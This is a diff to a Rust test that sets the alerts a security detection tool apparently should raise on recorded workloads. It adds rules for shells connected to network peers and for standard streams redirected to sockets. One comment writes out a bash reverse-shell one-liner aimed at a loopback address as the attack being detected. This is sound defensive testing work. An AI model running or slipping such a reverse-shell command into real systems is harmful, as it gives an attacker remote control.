@@ -70,8 +70,18 @@ fn default_rules_on_recorded_workloads() {
                 ("Change ownership or mode of sensitive file", 1),
             ],
         ),
-        // nc listeners and clients (the reverse shell, ssh and curl raise nothing here).
-        ("network", &[("Launch network tool", 7)]),
+        (
+            "network",
+            &[
+                // nc listeners and clients.
+                ("Launch network tool", 7),
+                // bash -c 'bash -i >& /dev/tcp/127.0.0.1/4445 0>&1': its connect, then the
+                // socket duplicated onto fds 1, 2 and 0 (sshd's own dups onto 0 and 1 are not
+                // a shell's; ssh, curl and python3's client raise nothing).
+                ("Shell connected to a network peer", 1),
+                ("Standard input or output redirected to a network socket", 3),
+            ],
+        ),
         // The benign workload: no alert at all.
         ("busy_server", &[]),
     ];
